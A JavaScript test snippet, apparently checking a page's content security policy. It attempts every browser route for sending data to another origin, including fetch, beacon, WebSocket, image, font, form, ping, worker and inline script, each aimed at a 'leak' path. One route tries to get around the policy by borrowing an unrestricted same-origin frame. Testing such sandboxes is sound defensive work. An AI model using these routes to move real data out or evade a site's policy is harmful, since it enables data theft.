// Tries every way that a page has to reach another origin; each asks for a path of its own. Gives the names of the ways.
const [other] = given;
const url = (way) => `${other}/leak/${way}?secret=1`;
const put = (tag, fields) => document.body.appendChild(Object.assign(document.createElement(tag), fields));
const blob = (text, type) => URL.createObjectURL(new Blob([text], { type }));
const ways = {
  fetch: () => fetch(url("fetch"), { method: "POST", body: "x", mode: "no-cors" }),
  keepalive: () => fetch(url("keepalive"), { method: "POST", body: "x", mode: "no-cors", keepalive: true }),
  xhr: () => { const x = new XMLHttpRequest(); x.open("POST", url("xhr")); x.send("x"); },
  socket: () => new WebSocket(url("socket").replace("http", "ws")),
  events: () => new EventSource(url("events")),
  beacon: () => navigator.sendBeacon(url("beacon"), "x"),
  image: () => put("img", { src: url("image") }),
  script: () => put("script", { src: url("script") }),
  module: () => import(url("module")),
  style: () => put("link", { rel: "stylesheet", href: url("style") }),
  prefetch: () => put("link", { rel: "prefetch", href: url("prefetch") }),
  preload: () => put("link", { rel: "preload", as: "image", href: url("preload") }),
  icon: () => put("link", { rel: "icon", href: url("icon") }),
  background: () => { put("p", {}).style.backgroundImage = `url(${url("background")})`; },
  font: () => new FontFace("leak", `url(${url("font")})`).load(),
  audio: () => put("audio", { src: url("audio"), preload: "auto" }),
  frame: () => put("iframe", { src: url("frame") }),
  // A file of the page's own host has no policy; a script could borrow the hands of a frame that shows one.
  borrowed: async () => {
    const frame = put("iframe", { src: "models/card.json" });
    await new Promise((shown) => { frame.onload = shown; });
    return frame.contentWindow.fetch(url("borrowed"), { mode: "no-cors" });
  },
  object: () => put("object", { data: url("object"), type: "text/html" }),
  form: () => {
    put("iframe", { name: "sink" });
    const form = put("form", { action: url("form"), method: "post", target: "sink" });
    form.append(Object.assign(document.createElement("input"), { name: "a", value: "b" }));
    form.submit();
  },
  ping: () => put("a", { href: "#", ping: url("ping") }).click(),
  worker: () => new Worker(blob(`fetch("${url("worker")}", { mode: "no-cors" })`, "text/javascript")),
  inline: () => { put("script", { textContent: `fetch("${url("inline")}", { mode: "no-cors" })` }); },
  srcdoc: () => put("iframe", { srcdoc: `<img src="${url("srcdoc")}">` }),
};
const refused = [];
for (const [way, attempt] of Object.entries(ways)) {
  try {
    Promise.resolve(attempt()).catch(() => {});
  } catch {
    refused.push(way);
  }
}
await new Promise((later) => setTimeout(later, 5000));
return { ways: Object.keys(ways), refused };
